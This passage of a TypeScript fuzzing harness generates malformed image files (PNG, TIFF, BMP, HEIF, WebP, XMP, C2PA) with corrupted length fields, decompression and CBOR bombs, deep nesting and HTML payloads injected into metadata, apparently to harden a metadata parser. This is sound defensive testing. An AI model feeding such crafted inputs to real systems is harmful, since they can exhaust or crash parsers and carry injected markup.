    { name: 'png-idat-before-ihdr', build: () => { const c = pngChunks(png()); const idat = c.find((x) => x.type === 'IDAT')!; return concat(PNG_SIGNATURE, png().subarray(idat.offset, idat.end), png().subarray(8, idat.offset), png().subarray(idat.end)); } },
    { name: 'png-two-ihdrs', build: () => pngInsert(png(), [ihdr(65535, 65535)]) },
    { name: 'png-no-iend', build: () => png().subarray(0, png().length - 12) },
    { name: 'png-no-idat', build: () => concat(PNG_SIGNATURE, ihdr(64, 48), pngChunk('IEND')) },
    { name: 'png-bad-crc-everywhere', build: () => { const b = png().slice(); for (const c of pngChunks(b)) b.set([0xde, 0xad, 0xbe, 0xef], c.dataEnd); return b; } },
    { name: 'png-palette-without-plte', build: () => makePng(64, 48, deflatedRun(48 * 65), { colorType: 3 }) },
    { name: 'png-plte-1000-entries', build: () => makePng(4, 4, deflatedRun(4 * 5), { colorType: 3, extra: [pngChunk('PLTE', new Uint8Array(3000))] }) },
    { name: 'png-bit-depth-3', build: () => makePng(4, 4, deflatedRun(4 * 13), { bitDepth: 3 }) },
    { name: 'png-color-type-7', build: () => makePng(4, 4, deflatedRun(4 * 13), { colorType: 7 }) },
    { name: 'png-rgba16-1x1', build: () => makePng(1, 1, deflatedRun(9), { bitDepth: 16, colorType: 6 }) },
    { name: 'png-filter-type-9-rows', build: () => makePng(64, 48, new Uint8Array(deflateSync(Buffer.alloc(48 * 193, 9)))) },
    { name: 'png-idat-raw-not-zlib', build: () => makePng(64, 48, rng(11).bytes(2000)) },
    { name: 'png-idat-too-much-data', build: () => makePng(4, 4, deflatedRun(1 << 20)) },
    { name: 'png-chunk-length-7fffffff', build: () => { const b = png(); const c = pngChunks(b)[1]; return patch(b, c.offset, be32(0x7fffffff)); } },
    { name: 'png-chunk-length-ffffffff', build: () => { const b = png(); const c = pngChunks(b)[1]; return patch(b, c.offset, be32(0xffffffff)); } },
    { name: 'png-ihdr-length-0', build: () => patch(png(), 8, be32(0)) },
    { name: 'png-ihdr-interlace-7', build: () => { const b = png().slice(); b[28] = 7; b.set(be32(crc32(b.subarray(12, 29))), 29); return b; } },
    { name: 'png-apng-actl-fctl-huge', build: () => pngInsert(png(), [pngChunk('acTL', [...be32(0xffffffff), ...be32(0)]), pngChunk('fcTL', [...be32(0), ...be32(65535), ...be32(65535), ...be32(0), ...be32(0), 0, 1, 0, 1, 0, 0])]) },
    { name: 'png-exif-empty', build: () => pngInsert(png(), [pngChunk('eXIf')]) },
    { name: 'png-exif-after-idat', build: () => pngInsert(png(), [pngChunk('eXIf', cameraTiff())], 'IEND') },
    { name: 'tiff-mm-camera', build: () => concat([0x4d, 0x4d, 0x00, 0x2a], be32(8), be16(1), be16(TAG.Make), be16(2), be32(20), be32(26), be32(0), 'Big-endian camera maker\0') },
    { name: 'tiff-bigtiff-header', build: () => concat([0x49, 0x49, 0x2b, 0x00, 8, 0, 0, 0], new Uint8Array(8).fill(0xff), new Uint8Array(64)) },
    { name: 'bmp-truncated-pixels', build: () => bmp(4000, 4000).subarray(0, 60) },
    { name: 'bmp-header-size-huge', build: () => patch(bmp(2, 2), 14, le32(0xffffffff)) },
  ];
}

/** Every structured case, in a fixed order; names are `category/detail`. */
function buildStructured(): CaseSpec[] {
  const seeds = loadSeeds();
  const groups: [string, CaseSpec[]][] = [
    ['empty', emptyCases()],
    ...truncationCases(seeds),
    ['bomb', bombCases()],
    ['dimensions', dimensionCases()],
    ...exifLoopCases(),
    ['xmp', xmpCases()],
    ['icc', iccCases()],
    ['c2pa', c2paCases()],
    ['polyglot', polyglotCases()],
    ['svg', svgCases()],
    ['heif', heifCases()],
    ['animated', animatedCases()],
    ['html', htmlCases()],
    ...injectionCases(),
    ['structure', structureCases()],
  ];
  return groups.flatMap(([category, specs]) => specs.map((s) => ({ ...s, name: `${category}/${s.name}` })));
}

/* ------------------------------------------------------------------ random cases */

type Op = (r: Rng, seed: Seed) => { detail: string; bytes: Uint8Array };

const MAX_RANDOM_SIZE = 512 * 1024;

/** A position that leaves the first `keep` bytes (the format magic) alone most of the time. */
const position = (r: Rng, length: number, keep = 4) => (length <= keep || r.chance(0.05) ? r.int(Math.max(1, length)) : keep + r.int(length - keep));

/** The [start, end) ranges of the seed's structural units (segments, chunks, boxes). */
function unitsOf(seed: Seed): { offset: number; end: number; lengthAt?: number; lengthBytes?: 2 | 4; le?: boolean }[] {
  const b = seed.bytes;
  switch (seed.kind) {
    case 'jpeg':
      return jpegSegments(b).map((s) => ({ offset: s.offset, end: s.end, ...(s.end - s.offset > 2 ? { lengthAt: s.offset + 2, lengthBytes: 2 as const } : {}) }));
    case 'png':
      return pngChunks(b).map((c) => ({ offset: c.offset, end: c.end, lengthAt: c.offset, lengthBytes: 4 as const }));
    case 'heic':
    case 'avif':
      return bmffBoxes(b).map((x) => ({ offset: x.offset, end: x.end, lengthAt: x.offset, lengthBytes: 4 as const }));
    case 'webp':
      return riffChunks(b).map((c) => ({ offset: c.offset, end: c.end, lengthAt: c.offset + 4, lengthBytes: 4 as const, le: true }));
    default:
      return [{ offset: 0, end: b.length }];
  }
}

/** Offset of the TIFF header inside the file (after "Exif\0\0", or 0 for a bare TIFF); -1 when there is none. */
function tiffStart(b: Uint8Array): number {
  const isTiff = (o: number) => (b[o] === 0x49 && b[o + 1] === 0x49 && b[o + 2] === 0x2a) || (b[o] === 0x4d && b[o + 1] === 0x4d && b[o + 3] === 0x2a);
  if (isTiff(0)) return 0;
  const buf = Buffer.from(b.buffer, b.byteOffset, b.byteLength);
  for (let i = buf.indexOf('Exif\0\0', 0, 'latin1'); i >= 0; i = buf.indexOf('Exif\0\0', i + 1, 'latin1')) if (isTiff(i + 6)) return i + 6;
  return -1;
}

function randomTiff(r: Rng): Uint8Array {
  const n = r.range(1, 6);
  const tags = Object.values(TAG);
  const ifds: TiffIfd[] = Array.from({ length: n }, () => ({ entries: [] }));
  const ref = (): IfdRef => (r.chance(0.8) ? { ifd: r.int(n) } : { offset: r.pick(INTERESTING32) });
  for (const ifd of ifds) {
    const count = r.range(0, 12);
    for (let k = 0; k < count; k++) {
      const tag = r.chance(0.9) ? r.pick(tags) : r.int(0x10000);
      const kind = r.int(6);
      if (tag === TAG.ExifIFD || tag === TAG.GPSIFD || tag === TAG.InteropIFD || kind === 0) ifd.entries.push(ptrEntry(tag, ref()));
      else if (kind === 1) ifd.entries.push(asciiEntry(tag, r.chance(0.3) ? r.pick(HTML_PAYLOADS) : r.pick(['Apple', 'Canon', 'Midjourney', 'Screenshot', '2025:11:20 10:15:00', 'x'.repeat(r.range(1, 8000))])));
      else if (kind === 2) ifd.entries.push(userCommentAscii(r.pick([A1111('a cat'), r.pick(HTML_PAYLOADS), 'screenshot'])));
      else if (kind === 3) ifd.entries.push({ tag, type: r.range(0, 14), count: r.chance(0.5) ? r.pick(INTERESTING32) : undefined, value: r.bytes(r.range(0, 64)) });
      else if (kind === 4) ifd.entries.push(longEntry(tag, r.pick(INTERESTING32)));
      else ifd.entries.push(rationalEntry(tag, [r.pick(INTERESTING32), r.pick(INTERESTING32)]));
    }
    if (r.chance(0.5)) ifd.next = ref();
  }
  return buildTiff(ifds, r.chance(0.9) ? { ifd: 0 } : { offset: r.pick(INTERESTING32) });
}

function randomXmp(r: Rng): string {
  const values = [...HTML_PAYLOADS.map(escapeXml), 'trainedAlgorithmicMedia', 'http://cv.iptc.org/newscodes/digitalsourcetype/digitalCapture', 'Midjourney', 'Adobe Firefly', 'a'.repeat(r.range(1, 20000)), '&amp;&lt;&#x0;'];
  const names = ['Iptc4xmpExt:DigitalSourceType', 'xmp:CreatorTool', 'DigImageGUID', 'photoshop:Credit', 'dc:description', 'rdf:li', 'xmp:UserComment'];
  const depth = r.range(0, 300);
  let body = '';
  for (let i = 0; i < r.range(0, 30); i++) body += `<${r.pick(names)}>${r.pick(values)}</${r.pick(names)}>`;
  const wrap = r.pick(names);
  body = `${`<${wrap}>`.repeat(depth)}${body}${r.chance(0.5) ? `</${wrap}>`.repeat(depth) : ''}`;
  const attrs = Array.from({ length: r.range(0, 10) }, () => `${r.pick(names)}="${r.pick(values)}"`).join(' ');
  const packet = xmpPacket(attrs, body);
  return r.chance(0.2) ? packet.slice(0, r.int(packet.length)) : packet;
}

const TEXT_KEYWORDS = ['parameters', 'prompt', 'workflow', 'Dream', 'sd-metadata', 'invokeai_metadata', 'invokeai_graph', 'Software', 'Comment', 'Description', 'fooocus_scheme', 'XML:com.adobe.xmp', 'Title'];

function randomText(r: Rng): string {
  const pieces = [
    () => A1111(r.pick(HTML_PAYLOADS)),
    () => JSON.stringify({ 1: { class_type: 'CLIPTextEncode', inputs: { text: r.pick(HTML_PAYLOADS) } }, 2: { class_type: 'KSampler', inputs: { positive: [r.pick(['1', '2', '3']), 0] } } }),
    () => JSON.stringify({ prompt: r.pick(HTML_PAYLOADS), positive_prompt: 'x', image: { prompt: [{ prompt: 'y' }] } }),
    () => `"${'\\'.repeat(r.range(0, 2000))}${r.pick(HTML_PAYLOADS)} -s 50`,
    () => '{'.repeat(r.range(1, 5000)),
    () => 'NovelAI',
    () => 'Steps: 20, Sampler: '.repeat(r.range(1, 3000)),
    () => String.fromCharCode(...r.bytes(r.range(0, 3000))),
    () => 'x'.repeat(r.range(1, 60000)),
  ];
  return r.pick(pieces)();
}

function randomBmff(r: Rng): Uint8Array {
  const types = ['meta', 'iprp', 'ipco', 'ipma', 'iloc', 'iinf', 'infe', 'pitm', 'ispe', 'hdlr', 'idat', 'iref', 'dinf', 'free', 'mdat', 'uuid', 'Exif'];
  const make = (depth: number): Uint8Array => {
    const type = r.pick(types);
    const children = depth < 6 && r.chance(0.5) ? Array.from({ length: r.range(1, 4) }, () => make(depth + 1)) : [r.bytes(r.range(0, 40))];
    const body = concat(type === 'meta' || r.chance(0.3) ? [0, 0, 0, 0] : [], ...children);
    const lie = r.chance(0.15);
    return lie ? rawBox(r.pick(INTERESTING32), type, body) : box(type, body);
  };
  const brand = r.pick(['heic', 'avif', 'mif1', 'heix']);
  return concat(box('ftyp', brand, be32(0), 'mif1', brand), ...Array.from({ length: r.range(1, 5) }, () => make(0)));
}

function randomRiff(r: Rng): Uint8Array {
  const ids = ['VP8X', 'VP8L', 'VP8 ', 'ANIM', 'ANMF', 'EXIF', 'XMP ', 'ICCP', 'ALPH', 'C2PA'];
  const chunks = Array.from({ length: r.range(1, 12) }, () => {
    const id = r.pick(ids);
    const data = id === 'EXIF' && r.chance(0.5) ? randomTiff(r) : id === 'VP8L' && r.chance(0.5) ? VP8L_CHUNK.subarray(8) : r.bytes(r.range(0, 64));
    const c = riffChunk(id, data);
    return r.chance(0.15) ? patch(c, 4, le32(r.pick(INTERESTING32))) : c;
  });
  const body = concat('WEBP', ...chunks);
  return concat('RIFF', le32(r.chance(0.2) ? r.pick(INTERESTING32) : body.length), body);
}

const MAGICS: Part[] = [[0xff, 0xd8, 0xff], PNG_SIGNATURE, 'RIFF\0\0\0\0WEBP', 'GIF89a', 'BM', [0x49, 0x49, 0x2a, 0], [0x4d, 0x4d, 0, 0x2a], concat(be32(24), 'ftypheic'), concat(be32(24), 'ftypavif'), '<svg', '<!doctype html>'];

function writeLength(b: Uint8Array, unit: { lengthAt?: number; lengthBytes?: 2 | 4; le?: boolean }, value: number): Uint8Array {
  if (unit.lengthAt === undefined) return b;
  const bytes = unit.lengthBytes === 2 ? be16(value & 0xffff) : unit.le ? le32(value) : be32(value);
  return patch(b, unit.lengthAt, bytes);
}

const OPS: [string, number, Op][] = [
  ['bitflip', 20, (r, s) => {
    const b = s.bytes.slice();
    const n = r.range(1, 32);
    for (let i = 0; i < n; i++) b[position(r, b.length)] ^= 1 << r.int(8);
    return { detail: `${n}-flips`, bytes: b };
  }],
  ['byterun', 12, (r, s) => {
    const b = s.bytes.slice();
    const at = position(r, b.length);
    const len = Math.min(r.range(1, 256), b.length - at);
    const fill = r.int(4);
    for (let i = 0; i < len; i++) b[at + i] = fill === 0 ? 0 : fill === 1 ? 0xff : fill === 2 ? r.int(256) : r.pick(INTERESTING8);
    return { detail: `${len}@${at}`, bytes: b };
  }],
  ['truncate', 8, (r, s) => {
    const at = r.range(1, Math.max(1, s.bytes.length - 1));
    return { detail: `@${at}`, bytes: s.bytes.slice(0, at) };
  }],
  ['insert', 5, (r, s) => {
    const at = position(r, s.bytes.length);
    const ins = r.chance(0.5) ? r.bytes(r.range(1, 512)) : new Uint8Array(r.range(1, 512)).fill(r.pick(INTERESTING8));
    return { detail: `${ins.length}@${at}`, bytes: concat(s.bytes.subarray(0, at), ins, s.bytes.subarray(at)) };
  }],
  ['lengthfield', 12, (r, s) => {
    const units = unitsOf(s).filter((u) => u.lengthAt !== undefined);
    if (!units.length) {
      const at = position(r, s.bytes.length);
      return { detail: `word@${at}`, bytes: patch(s.bytes, at, le32(r.pick(INTERESTING32))) };
    }
    const k = r.int(units.length);
    const u = units[k];
    const current = u.end - u.offset;
    const value = r.chance(0.5) ? r.pick(u.lengthBytes === 2 ? INTERESTING16 : INTERESTING32) : Math.max(0, current + r.range(-16, 16));
    return { detail: `unit${k}=${value}`, bytes: writeLength(s.bytes, u, value) };
  }],
  ['splice', 4, (r, s) => {
    const others = loadSeeds().filter((x) => x.kind === s.kind && x.name !== s.name);
    const other = others.length ? r.pick(others) : s;
    const a = r.int(s.bytes.length);
    const bStart = r.int(other.bytes.length);
    return { detail: `${a}+${other.name}@${bStart}`, bytes: concat(s.bytes.subarray(0, a), other.bytes.subarray(bStart)) };
  }],
  ['repeat', 3, (r, s) => {
    const units = unitsOf(s);
    const k = r.int(units.length);
    const u = units[k];
    const size = Math.max(1, u.end - u.offset);
    const times = Math.min(r.range(2, 3000), Math.floor(MAX_RANDOM_SIZE / size));
    const unit = s.bytes.subarray(u.offset, u.end);
    return { detail: `unit${k}x${times}`, bytes: concat(s.bytes.subarray(0, u.end), ...Array.from({ length: times }, () => unit), s.bytes.subarray(u.end)) };
  }],
  ['c2pa', 10, (r) => {
    const seeds = loadSeeds().filter((x) => manifestRegions(x).length);
    const seed = r.pick(seeds);
    const regions = manifestRegions(seed);
    const region = r.pick(regions);
    const b = seed.bytes.slice();
    const span = region.end - region.offset;
    const mode = r.int(4);
    if (mode === 0) {
      const n = r.range(1, 16);
      for (let i = 0; i < n; i++) b[region.offset + r.int(span)] ^= 1 << r.int(8);
      return { detail: `${seed.name}:${n}-flips`, bytes: b };
    }
    if (mode === 1) {
      const at = region.offset + r.int(span);
      const bomb = r.pick([[0x9b, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff], [0xbb, 0x7f, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff], [0x5a, 0xff, 0xff, 0xff, 0xff], [0x7a, 0x7f, 0xff, 0xff, 0xff], [0x9f, 0x9f, 0x9f, 0x9f]]);
      return { detail: `${seed.name}:cbor@${at}`, bytes: patch(b, at, bomb) };
    }
    if (mode === 2) {
      const starts: number[] = [];
      for (let i = region.offset; i + 8 <= region.end; i++) if (ascii4(b, i + 4) === 'jumb' || ascii4(b, i + 4) === 'jumd' || ascii4(b, i + 4) === 'cbor') starts.push(i);
      if (!starts.length) return { detail: `${seed.name}:nobox`, bytes: b };
      const at = r.pick(starts);
      const value = r.pick(INTERESTING32);
      return { detail: `${seed.name}:boxsize@${at}=${value}`, bytes: patch(b, at, be32(value)) };
    }
    const at = region.offset + r.int(span);
    const len = Math.min(r.range(1, 64), region.end - at);
    for (let i = 0; i < len; i++) b[at + i] = r.int(256);
    return { detail: `${seed.name}:run${len}@${at}`, bytes: b };
  }],
  ['tiff', 10, (r) => {
    const container = r.pick(CONTAINERS_OF_EXIF);
    return { detail: container, bytes: withExif(container, randomTiff(r)) };
  }],
  ['tiff-patch', 6, (r, s) => {
    const withTiff = loadSeeds().filter((x) => tiffStart(x.bytes) >= 0);
    const seed = withTiff.includes(s) ? s : r.pick(withTiff);
    const start = tiffStart(seed.bytes);
    const b = seed.bytes.slice();
    const end = Math.min(b.length, start + 4096);
    const n = r.range(1, 4);
    for (let i = 0; i < n; i++) {
      const wide = r.chance(0.5);
      const width = wide ? 4 : 2;
      if (end - start < width) break;
      const at = start + 2 * r.int(((end - start - width) >> 1) + 1);
      b.set(wide ? le32(r.pick(INTERESTING32)) : le16(r.pick(INTERESTING16)), at);
    }
    return { detail: `${seed.name}:${n}-words`, bytes: b };
  }],
  ['xmp', 6, (r) => {
    const packet = randomXmp(r);
    const into = r.int(3);
    if (into === 0 && packet.length < 65000) return { detail: 'app1', bytes: jpegInsert(seedNamed('plain.jpg'), xmpApp1(packet)) };
    if (into === 1) return { detail: 'png-itxt', bytes: pngInsert(seedNamed('png-plain.png'), [pngItxt('XML:com.adobe.xmp', packet)]) };
    return { detail: 'trailer', bytes: concat(seedNamed('plain.jpg'), packet) };
  }],
  ['text', 6, (r) => {
    const chunks = Array.from({ length: r.range(1, 8) }, () => {
      const kw = r.pick(TEXT_KEYWORDS);
      const text = randomText(r);
      const t = r.int(3);
      if (t === 0) return pngText(kw, text);
      if (t === 1) return pngZtxt(kw, new Uint8Array(deflateSync(Buffer.from(text, 'latin1'))));
      return pngItxt(kw, r.chance(0.5) ? utf8.encode(text) : new Uint8Array(deflateSync(Buffer.from(text, 'utf8'))), r.chance(0.5));
    });
    return { detail: `${chunks.length}-chunks`, bytes: pngInsert(seedNamed('png-plain.png'), chunks) };
  }],
  ['bmff', 6, (r) => ({ detail: 'tree', bytes: randomBmff(r) })],
  ['riff', 4, (r) => ({ detail: 'chunks', bytes: randomRiff(r) })],
  ['magic', 4, (r) => {
    const magic = concat(r.pick(MAGICS));
    return { detail: `${magic.length}+random`, bytes: concat(magic, r.bytes(r.range(0, 4096))) };
  }],
];

const OP_TOTAL = OPS.reduce((n, [, w]) => n + w, 0);
/** Operators that choose their own input (the picked seed is not part of their name). */
const OWN_INPUT = new Set(['c2pa', 'tiff', 'tiff-patch', 'xmp', 'text', 'bmff', 'riff', 'magic']);

function randomCase(runSeed: number, index: number): { name: string; category: string; bytes: Uint8Array } {
  const r = rng(caseSeed(runSeed, index));
  let pickW = r.int(OP_TOTAL);
  let op = OPS[0];
  for (const o of OPS) {
    if (pickW < o[1]) {
      op = o;
      break;
    }
    pickW -= o[1];
  }
  const seed = r.pick(loadSeeds());
  const { detail, bytes } = op[2](r, seed);
  const category = `random-${op[0]}`;
  const label = OWN_INPUT.has(op[0]) ? detail : `${seed.name}:${detail}`;
  return { name: `${category}/${label}#${runSeed}:${index}`, category, bytes: bytes.length > MAX_RANDOM_SIZE * 2 ? bytes.subarray(0, MAX_RANDOM_SIZE * 2) : bytes };
}

/* ------------------------------------------------------------------ public API */

let structured: CaseSpec[] | undefined;
const structuredCases = () => (structured ??= buildStructured());

/** Number of structured cases (they take indices 0 … n-1 in every run). */
export function structuredCount(): number {
  return structuredCases().length;
}

/** Names of the structured cases and whether each is heavy, without building any bytes. */
export function structuredIndex(): { index: number; name: string; category: string; heavy: boolean }[] {
  return structuredCases().map((c, index) => ({ index, name: c.name, category: c.name.split('/')[0], heavy: c.heavy === true }));
}

/** Case `index` of the run with PRNG seed `runSeed`. */
export function caseAt(index: number, runSeed = 1): FuzzCase {
  const list = structuredCases();
  if (index < list.length) {
    const spec = list[index];
    return { index, name: spec.name, category: spec.name.split('/')[0], bytes: spec.build() };
  }
  return { index, ...randomCase(runSeed, index) };
}

/** Finds a case by its exact name (structured names, or random names with their `#seed:index`). */
export function caseNamed(name: string): FuzzCase | undefined {
  const i = structuredCases().findIndex((c) => c.name === name);
  if (i >= 0) return caseAt(i);
  const m = name.match(/#(\d+):(\d+)$/);
  return m ? caseAt(Number(m[2]), Number(m[1])) : undefined;
}
